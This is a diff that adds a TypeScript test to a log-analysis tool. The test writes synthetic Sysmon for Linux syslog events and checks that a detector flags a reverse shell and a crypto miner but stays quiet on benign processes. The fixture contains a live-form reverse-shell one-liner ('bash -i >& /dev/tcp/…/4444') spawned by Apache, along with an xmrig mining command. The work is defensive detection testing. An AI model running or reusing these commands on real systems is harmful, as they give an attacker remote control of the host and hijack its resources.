@@ -80,6 +80,33 @@ describe('processes: what an intruder runs on a Linux host (auditd EXECVE record
   }, 60_000);
 });
 
+describe('processes: Sysmon for Linux, as it writes to syslog', () => {
+  const xmlEscape = (t: string): string => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
+  const sysmon = (sec: number, id: number, data: Record<string, string>): string =>
+    `Dec  7 10:${String(10 + Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')} web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-12-07T10:${String(10 + Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')}.123456000Z"/><EventRecordID>${sec}</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer><Security UserId="0"/></System><EventData>${Object.entries(data)
+      .map(([k, v]) => `<Data Name="${k}">${xmlEscape(v)}</Data>`)
+      .join('')}</EventData></Event>`;
+  const proc = (sec: number, image: string, cmd: string, parent: string, user: string): string =>
+    sysmon(sec, 1, { RuleName: '-', UtcTime: '2026-12-07 10:10:00.123', ProcessGuid: `{${sec}}`, ProcessId: String(4000 + sec), Image: image, CommandLine: cmd, CurrentDirectory: '/tmp', User: user, ParentImage: parent, ParentCommandLine: parent });
+
+  it('finds the reverse shell a web server started and the miner; logrotate, a health check and a network event stay quiet', async () => {
+    const found = await analysePlanted('processes-sysmon-linux', (dir) => {
+      const { put, files } = logFiles(dir);
+      put('syslog', [
+        proc(1, '/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf', '/usr/sbin/cron', 'root'),
+        proc(5, '/usr/bin/curl', 'curl -s http://localhost/health', '/usr/sbin/cron', 'root'),
+        sysmon(9, 3, { RuleName: '-', UtcTime: '2026-12-07 10:10:09.000', ProcessId: '812', Image: '/usr/sbin/apache2', User: 'www-data', Protocol: 'tcp', Initiated: 'false', SourceIp: '198.51.100.20', SourcePort: '51000', DestinationIp: '10.0.0.5', DestinationPort: '443' }),
+        proc(20, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', '/usr/sbin/apache2', 'www-data'),
+        proc(80, '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u wallet', '/usr/bin/bash', 'www-data'),
+      ]);
+      return files;
+    });
+    const procs = found.filter((f) => f.detector === 'processes');
+    expect(procs.map((f) => `${f.severity}:${f.entity.slice(0, f.entity.indexOf(':'))}:${f.numbers.rule}`).sort(), listFindings(found)).toEqual(['high:web1:miner', 'high:web1:revshell']);
+    expect(procs.find((f) => f.numbers.rule === 'revshell')!.explanation).toContain('bash -i >& /dev/tcp/203.0.113.66/4444');
+  }, 60_000);
+});
+
 describe('processRules', () => {
   it('names the rule a command line matches, and none for look-alikes', () => {
     const ids = (command: string, image = '', parent = ''): string[] => processRules({ image, command, parent }).map((r) => r.id);
